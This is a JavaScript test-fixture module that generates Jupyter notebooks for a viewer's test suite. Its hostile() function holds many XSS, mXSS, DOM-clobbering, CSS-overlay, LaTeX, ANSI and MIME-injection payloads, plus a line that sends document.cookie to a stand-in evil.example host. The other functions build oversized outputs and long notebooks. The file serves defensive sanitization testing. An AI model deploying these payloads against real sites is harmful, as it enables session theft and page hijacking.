// Writes notebooks for the tests: hostile ones, large ones.
import { deflateSync } from "node:zlib";
import { notebook } from "../harness.mjs";

const html = (text) => ({ output_type: "display_data", metadata: {}, data: { "text/html": text, "text/plain": "hostile" } });
const mime = (type, value) => ({ output_type: "display_data", metadata: {}, data: { [type]: value } });
const code = (source, ...outputs) => ({ cell_type: "code", source, outputs, execution_count: 1 });
const evil = "https://evil.example";

/** Everything that has been used to get out of an output. Each sets window.pwned when it gets out. */
export function hostile() {
  const set = "window.pwned=1;parent.pwned=1;top.pwned=1";
  return notebook(
    { cell_type: "markdown", source: `# Hostile <img src=x onerror="${set}">\n\n[click](javascript:${set}) <script>${set}</script>\n\n![p](${evil}/pixel.png)\n\n<iframe srcdoc="<script>${set}</script>"></iframe>\n\n<style>body{display:none}</style>\n\n<form action="${evil}"><input name=password></form>\n\n<a href="java&#10;script:${set}">x</a>\n\n$\\href{javascript:${set}}{x} \\includegraphics{${evil}/tex.png} \\htmlData{x=y}{z}$\n\n<div id="app">clobber</div><img name="getElementById"><div style="position:fixed;inset:0;background:red url(${evil}/css.png)">over everything</div>` },
    code("html", html(`<img src=x onerror="${set}"><svg onload="${set}"><script>${set}</script></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${set}&gt;">`), html(`<a href="javascript:${set}" id="jslink">link</a><details open ontoggle="${set}">x</details><input autofocus onfocus="${set}">`)),
    code("css", html(`<style>@import url(${evil}/i.css); body, .topbar, .cell { display: none !important } :host { position: fixed !important; inset: 0; background: red } * { background: u\\72l(${evil}/b.png) } @font-face { font-family: f; src: url(${evil}/f.woff2) }</style><p style="position:fixed;inset:0;z-index:99999;background:url('${evil}/c.png')">cover</p>`)),
    code("remote", html(`<img src="${evil}/a.png" srcset="${evil}/b.png 2x"><video src="${evil}/v.mp4" poster="${evil}/p.png" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio><link rel=stylesheet href="${evil}/s.css"><base href="${evil}"><meta http-equiv=refresh content="0;url=${evil}"><object data="${evil}/o"></object><embed src="${evil}/e"><iframe src="${evil}/f"></iframe>`)),
    code("svg", mime("image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${set}"><script>${set}</script><image href="${evil}/s.png" width="10" height="10"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${set}"/></foreignObject></svg>`), html(`<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${set}' /&gt;&lt;/svg&gt;#x" /></svg>`)),
    code("scripts", html(`<script>${set}; try { document.cookie; fetch("/api/v1/notebooks") } catch (e) {} new Image().src="${evil}/leak?" + document.cookie</script>`), mime("application/javascript", set), html(`<div></div><script src="${evil}/x.js"></script>`)),
    code("latex", mime("text/latex", `$\\href{javascript:${set}}{x}\\def\\x{\\x\\x}\\x$`), mime("text/markdown", `<img src=x onerror="${set}"> [x](javascript:${set})`)),
    code("ansi", { output_type: "stream", name: "stdout", text: `\u001b]8;;javascript:${set}\u0007link\u001b]8;;\u0007 \u001b[38;2;1;2;3;"><img src=x onerror=${set}>m<script>${set}</script>` }, { output_type: "error", ename: `<img src=x onerror="${set}">`, evalue: "<script>", traceback: [`<img src=x onerror="${set}">`] }),
    code("types", mime("application/json", { "<img src=x onerror=1>": `<script>${set}</script>`, __proto__: { polluted: 1 } }), mime("image/png", `AAAA" onerror="${set}`), mime(`text/html" onload="${set}`, "x"), { output_type: "unknown<script>", data: null }, mime("application/vnd.jupyter.widget-view+json", { model_id: "<script>" })),
  );
}

/** Outputs of sizes that no page can draw whole. */
export function huge() {
  const lines = Array.from({ length: 350_000 }, (_, i) => `line ${i} of a program that prints too much`).join("\n");
  return notebook(
    "first = 1",
    code("lines", { output_type: "stream", name: "stdout", text: lines.slice(0, 10_000_000) }),
    code("line", { output_type: "stream", name: "stdout", text: "x".repeat(2_000_000) }),
    code("html", html("<table>" + "<tr><td>1</td><td>2</td></tr>".repeat(3000) + "</table>")),
    code("json", mime("application/json", { list: Array.from({ length: 20_000 }, (_, i) => ({ i, square: i * i })) })),
  );
}

/** Payloads that the hub keeps beside the document. */
export function large() {
  return notebook(
    code("picture", mime("image/png", noise(640, 640).toString("base64"))),
    code("table", html("<table><caption>large</caption>" + "<tr><td>some cell of a large table</td></tr>".repeat(30_000) + "</table>")),
  );
}

/** A PNG that does not compress. */
function noise(width, height) {
  const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const frame = Buffer.alloc(body.length + 8);
    frame.writeUInt32BE(data.length);
    body.copy(frame, 4);
    frame.writeUInt32BE(crc32(body), body.length + 4);
    return frame;
  };
  const rows = Buffer.alloc((width * 3 + 1) * height);
  let seed = 1;
  for (let i = 0; i < rows.length; i++) rows[i] = i % (width * 3 + 1) === 0 ? 0 : (seed = (seed * 16807) % 2147483647) & 255;
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk("IHDR", head), chunk("IDAT", deflateSync(rows)), chunk("IEND", Buffer.alloc(0))]);
}

/** CRC-32 as PNG asks for it (ISO 3309). */
function crc32(data) {
  let crc = ~0;
  for (const byte of data) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

/** A long notebook, half prose, half code, some with outputs. */
export function long(cells = 500) {
  return notebook(
    ...Array.from({ length: cells }, (_, i) =>
      i % 5 === 0
        ? { cell_type: "markdown", source: `## Part ${i}\n\nSome *prose* about step ${i}, with a list:\n\n- one\n- two` }
        : code(`def step_${i}(values, limit=${i}):\n    """Number ${i}."""\n    return [value * ${i} for value in values if value < limit]\n\nstep_${i}(range(10))`, ...(i % 3 ? [{ output_type: "stream", name: "stdout", text: `result ${i}\n`.repeat((i % 7) + 1) }] : [])),
    ),
  );
}
